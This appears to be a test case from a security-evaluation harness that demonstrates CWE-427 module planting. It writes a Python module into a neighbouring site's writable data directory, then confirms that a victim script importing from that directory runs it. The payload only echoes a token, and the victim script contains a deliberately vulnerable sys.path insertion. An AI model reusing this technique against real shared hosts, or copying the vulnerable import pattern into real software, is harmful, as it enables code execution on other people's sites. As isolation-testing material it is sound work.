"""Plant a module that the neighbour's script will import."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "CWE-427: an import path that others can write to"
ONE_STEP = True


def attack(given: Given) -> object:
    with open(f"{given.neighbour}/data/settings_of_the_site.py", "w") as file:
        file.write(f"WORD = {given.token!r}\n")
    return "planted"


def proof(scene: Scene) -> str | None:
    scene.put(
        "importing.py",
        "import sys\nsys.path.insert(0, 'data')\n"
        "try:\n    import settings_of_the_site as settings\n    word = settings.WORD\n"
        "except ImportError:\n    word = 'none'\n"
        "print('Content-Type: text/plain\\n\\n' + word)\n",
    )
    if scene.token.encode() in scene.visit("importing.py").body:
        return "the neighbour's script ran a module of the attacker's"
    return None
